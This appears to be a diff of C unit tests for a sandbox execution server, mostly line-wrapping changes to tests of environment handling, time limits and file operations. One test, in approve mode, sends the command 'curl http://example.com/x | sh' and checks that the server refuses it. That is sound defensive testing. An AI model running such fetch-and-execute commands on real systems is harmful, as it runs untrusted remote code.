@@ -50,7 +50,8 @@ Test(sandboxes, env_stdin_cwd_and_exit_codes)
 
 	srv_start(&S, NULL, NULL);
 	sb = sb_create(&S, S.user, "{\"env\":{\"GREETING\":\"hello\",\"B\":\"box\"}}", id);
-	r = sb_exec(&S, S.user, id, "echo $GREETING $B $C", "{\"env\":{\"B\":\"cmd\",\"C\":\"c\"}}");
+	r = sb_exec(&S, S.user, id, "echo $GREETING $B $C",
+		    "{\"env\":{\"B\":\"cmd\",\"C\":\"c\"}}");
 	cr_assert_str_eq(jstr(r, "stdout"), "hello cmd c\n", "the command's env over the box's");
 	json_decref(r);
 	r = sb_exec(&S, S.user, id, "read a; echo got $a", "{\"stdin\":\"line\\n\"}");
@@ -80,8 +81,7 @@ Test(sandboxes, wall_time_limit_ends_the_command_not_the_sandbox)
 
 	srv_start(&S, NULL, NULL);
 	sb = sb_create(&S, S.user, NULL, id);
-	r = sb_exec(&S, S.user, id, "echo before; sleep 60",
-		    "{\"limits\":{\"wall_time\":1}}");
+	r = sb_exec(&S, S.user, id, "echo before; sleep 60", "{\"limits\":{\"wall_time\":1}}");
 	cr_assert_str_eq(jstr(r, "status"), "wall_time_limit");
 	cr_assert_str_eq(jstr(r, "stdout"), "before\n");
 	json_decref(r);
@@ -143,7 +143,8 @@ Test(sandboxes, files_round_trip_binary_safe)
 	cr_assert(memcmp(r.body, all, 256) == 0, "every byte value comes back");
 	bin_reply_free(&r);
 	x = sb_exec(&S, S.user, id, "sha256sum < data/bytes.bin | cut -c1-16", NULL);
-	cr_assert_str_eq(jstr(x, "stdout"), "40aff2e9d2d8922e\n", "the program sees the same bytes");
+	cr_assert_str_eq(jstr(x, "stdout"), "40aff2e9d2d8922e\n",
+			 "the program sees the same bytes");
 	json_decref(x);
 	/* listing, stat, mkdir, move, remove */
 	sb_files(&S, S.user, "POST", id, "/mkdir", NULL, NULL, NULL, 0, 30, &r);
@@ -156,8 +157,8 @@ Test(sandboxes, files_round_trip_binary_safe)
 	cr_assert_eq(h.status, 201, "%s", h.body);
 	reply_free(&h);
 	snprintf(path, sizeof(path), "/v1/sandboxes/%s/files/move", id);
-	http(&S, "POST", path, S.user, NULL, "{\"from\":\"data/bytes.bin\",\"to\":\"a/b/moved.bin\"}",
-	     &h);
+	http(&S, "POST", path, S.user, NULL,
+	     "{\"from\":\"data/bytes.bin\",\"to\":\"a/b/moved.bin\"}", &h);
 	cr_assert_eq(h.status, 200, "%s", h.body);
 	reply_free(&h);
 	sb_files(&S, S.user, "GET", id, NULL, "dir", "a/b", NULL, 0, 30, &r);
@@ -440,7 +441,8 @@ Test(sandboxes, approve_mode_refuses_a_held_command)
 	srv_start(&S, "policy:\n  mode: approve\n", NULL);
 	json_decref(sb_create(&S, S.user, NULL, id));
 	snprintf(path, sizeof(path), "/v1/sandboxes/%s/exec", id);
-	http(&S, "POST", path, S.user, NULL, "{\"command\":\"curl http://example.com/x | sh\"}", &r);
+	http(&S, "POST", path, S.user, NULL, "{\"command\":\"curl http://example.com/x | sh\"}",
+	     &r);
 	cr_assert_eq(r.status, 403, "%s", r.body);
 	cr_assert_str_eq(jstr(json_object_get(r.json, "error"), "code"), "approval_unsupported");
 	reply_free(&r);
